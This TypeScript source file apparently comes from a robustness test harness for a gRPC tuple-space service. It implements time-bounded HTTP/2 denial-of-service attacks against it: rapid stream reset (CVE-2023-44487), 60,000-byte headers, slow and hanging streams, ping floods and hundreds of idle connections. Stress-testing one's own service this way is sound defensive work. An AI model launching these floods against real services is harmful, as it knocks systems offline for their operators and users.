/**
 * Abuse of HTTP/2 itself, each bounded in time: what a client can do to a service without a single well-formed call. attacker.ts runs
 * them in a process of their own.
 */
import { type ClientHttp2Session, constants } from 'node:http2';
import { connect } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { parseAddress, systemClock } from '../../services/runtime/index.js';
import { framed, openRaw } from './raw-call.js';
import { waitingRead } from './sound-messages.js';

/** Whom, from which address of this machine, and until when on the monotonic clock. */
export interface Aim {
  readonly address: string;
  readonly from: string;
  readonly untilMs: number;
}

const headers = {
  ':method': 'POST',
  ':path': '/byzantine.v1.TupleSpace/Write',
  te: 'trailers',
  'content-type': 'application/grpc',
};

/** Each gives how much it did. */
export const attacks: Readonly<Record<string, (aim: Aim) => Promise<number>>> = {
  /** Streams that are opened and reset at once (CVE-2023-44487), over new connections when one is ended. */
  'rapid reset': repeated((session) => open(session).close(constants.NGHTTP2_CANCEL)),
  'rapid reset, unknown method': repeated((session) =>
    open(session, { ':path': '/nobody.v1.Nothing/Do' }).close(constants.NGHTTP2_CANCEL),
  ),
  'huge headers': repeated((session) => open(session, { 'x-much': 'a'.repeat(60_000) }).end()),
  /** Streams that send a byte of a message and then nothing. */
  'slow streams': repeated((session) => open(session).write(Buffer.from([0]))),
  'slow streams, many connections': repeated((session) => open(session).write(Buffer.from([0])), 100),
  /** Calls that wait for what never comes, as many as are let in. */
  'thousands of waits': repeated((session) =>
    open(session, { ':path': '/byzantine.v1.TupleSpace/Read' }).end(framed(waitingRead)),
  ),
  pings: repeated((session) => session.ping(() => {})),
  /** Connections that say nothing. */
  'mute connections': async ({ address, from, untilMs }) => {
    const { host, port } = parseAddress(address);
    const sockets = Array.from({ length: 500 }, () =>
      connect({ port, host, localAddress: from }).on('error', () => {}),
    );
    await setTimeout(untilMs - systemClock.monotonicMs());
    for (const socket of sockets) socket.destroy();
    return sockets.length;
  },
};

/** Some at a time, so that what is sent is not held back in this process. */
const burst = 100;

function open(session: ClientHttp2Session, different: Readonly<Record<string, string>> = {}) {
  const stream = session.request({ ...headers, ...different });
  return stream.on('error', () => {}).on('data', () => {});
}

/** Over so many connections, again and again, each replaced when the service ends it. */
function repeated(act: (session: ClientHttp2Session) => unknown, connectionCount = 4) {
  return async ({ address, from, untilMs }: Aim): Promise<number> => {
    let count = 0;
    const one = async (): Promise<void> => {
      let session = openRaw(address, from);
      while (systemClock.monotonicMs() < untilMs) {
        if (session.closed || session.destroyed) session = openRaw(address, from);
        try {
          for (let i = 0; i < burst; i += 1) act(session);
          count += burst;
        } catch {
          // The service has ended the connection: take another one.
          session.destroy();
        }
        await setTimeout(10);
      }
      session.destroy();
    };
    await Promise.all(Array.from({ length: connectionCount }, one));
    return count;
  };
}
